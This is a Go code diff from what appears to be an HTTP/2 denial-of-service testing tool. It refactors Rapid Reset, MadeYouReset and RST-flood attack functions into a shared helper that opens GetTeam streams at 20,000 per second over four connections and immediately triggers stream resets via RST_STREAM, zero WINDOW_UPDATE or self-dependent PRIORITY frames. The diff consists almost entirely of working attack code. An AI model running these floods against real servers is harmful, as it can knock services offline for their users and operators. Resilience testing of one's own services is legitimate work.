@@ -379,15 +379,17 @@ func withEncoder(send func(fr *http2.Framer, enc *hpack.Encoder, buf *bytes.Buff
 	return func(fr *http2.Framer, n int) error { return send(fr, enc, &buf, ids, n) }
 }
 
-func rapidReset(a *attacker) {
-	a.paced(4, 20000, true, nil, perConn(func(fr *http2.Framer, enc *hpack.Encoder, buf *bytes.Buffer, ids *streams, n int) error {
+// openThen opens GetTeam streams at 20 000 a second over 4 connections
+// and follows each stream's HEADERS with the frame then writes.
+func openThen(a *attacker, read bool, then func(fr *http2.Framer, id uint32) error) {
+	a.paced(4, 20000, read, nil, perConn(func(fr *http2.Framer, enc *hpack.Encoder, buf *bytes.Buffer, ids *streams, n int) error {
 		block := requestBlock(enc, buf, "POST", "/teams.v1.TeamsService/GetTeam", "application/json")
 		for range n {
 			id := ids.id()
 			if err := fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block, EndHeaders: true}); err != nil {
 				return err
 			}
-			if err := fr.WriteRSTStream(id, http2.ErrCodeCancel); err != nil {
+			if err := then(fr, id); err != nil {
 				return err
 			}
 		}
@@ -395,20 +397,14 @@ func rapidReset(a *attacker) {
 	}))
 }
 
+func rapidReset(a *attacker) {
+	openThen(a, true, func(fr *http2.Framer, id uint32) error { return fr.WriteRSTStream(id, http2.ErrCodeCancel) })
+}
+
 func madeYouReset(a *attacker) {
-	a.paced(4, 20000, true, nil, perConn(func(fr *http2.Framer, enc *hpack.Encoder, buf *bytes.Buffer, ids *streams, n int) error {
-		block := requestBlock(enc, buf, "POST", "/teams.v1.TeamsService/GetTeam", "application/json")
-		for range n {
-			id := ids.id()
-			if err := fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block, EndHeaders: true}); err != nil {
-				return err
-			}
-			if err := fr.WriteWindowUpdate(id, 0); err != nil { // a stream error the server answers with RST_STREAM
-				return err
-			}
-		}
-		return nil
-	}))
+	openThen(a, true, func(fr *http2.Framer, id uint32) error {
+		return fr.WriteWindowUpdate(id, 0) // a stream error the server answers with RST_STREAM
+	})
 }
 
 // perConn gives each connection its own HPACK encoder and stream IDs.
@@ -616,19 +612,9 @@ func priorityFlood(a *attacker) {
 }
 
 func rstFlood(a *attacker) {
-	a.paced(4, 20000, false, nil, perConn(func(fr *http2.Framer, enc *hpack.Encoder, buf *bytes.Buffer, ids *streams, n int) error {
-		block := requestBlock(enc, buf, "POST", "/teams.v1.TeamsService/GetTeam", "application/json")
-		for range n {
-			id := ids.id()
-			if err := fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block, EndHeaders: true}); err != nil {
-				return err
-			}
-			if err := fr.WritePriority(id, http2.PriorityParam{StreamDep: id}); err != nil { // self-dependency: RST_STREAM
-				return err
-			}
-		}
-		return nil
-	}))
+	openThen(a, false, func(fr *http2.Framer, id uint32) error {
+		return fr.WritePriority(id, http2.PriorityParam{StreamDep: id}) // self-dependency: RST_STREAM
+	})
 }
 
 // holdOpen opens as many streams as conns x perConn on conns connections,
